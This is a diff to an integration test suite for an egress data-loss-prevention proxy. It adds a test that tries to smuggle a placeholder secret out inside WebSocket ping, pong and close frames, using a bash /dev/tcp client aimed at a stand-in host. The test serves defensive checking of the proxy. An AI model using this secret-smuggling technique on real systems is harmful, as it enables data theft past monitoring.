@@ -32,6 +32,21 @@ from tests.integration import _harness as h
 from tests.integration.test_egress_dlp_bottle import WS_CLIENT
 from tests.integration.test_git_gate_docker import UPSTREAM_HOST, upstream_image
 
+# A WebSocket opened, then the secret as a ping's payload, a pong's, and a close frame's reason
+# (after its code, 1000): zero masks, so each payload is as written.
+WS_CONTROL_CLIENT = r'''
+exec 3<>/dev/tcp/127.0.0.1/3128
+printf 'GET http://@@HOST@@/@@M@@ HTTP/1.1\r\nHost: @@HOST@@\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n' >&3
+sleep 1
+m='@@S@@'
+for op in 89 8a; do
+  printf "\x$op\x$(printf %02x $((128 + ${#m})))\x00\x00\x00\x00%s" "$m" >&3
+  sleep 0.5
+done
+printf "\x88\x$(printf %02x $((130 + ${#m})))\x00\x00\x00\x00\x03\xe8%s" "$m" >&3
+timeout 3 cat <&3 | tr -c '[:print:]' '.'
+'''
+
 ARENA: esc.Arena | None = None
 FAKE_AWS_KEY = "AKIA" + "QZ7RXJ2M4KD8WPLB"  # token-shaped, not a real key
 
@@ -383,6 +398,11 @@ class Exfiltration(_Family):
         # The proxy scans WebSocket messages too (the client is the DLP bottle test's, in bash).
         self.exfil(WS_CLIENT.replace("set -u\n", "") .replace('"$1"', "allowed.example").replace('"$2"', "/@@M@@")
                    .replace("shift 2\n", "").replace('"$@"', "'hello' '@@S@@'"), self.arena.prompt_secret)
+
+    def test_secret_in_websocket_control_frames(self) -> None:
+        # A ping's and a pong's payload and a close frame's reason: mitmproxy relays these
+        # without any hook, so the proxy checks them itself.
+        self.exfil(WS_CONTROL_CLIENT.replace("@@HOST@@", "allowed.example"), self.arena.prompt_secret)
 
     def test_secret_in_a_hostname_label(self) -> None:
         # The arena gives the allowed upstream this very name: an escape would be answered and seen.
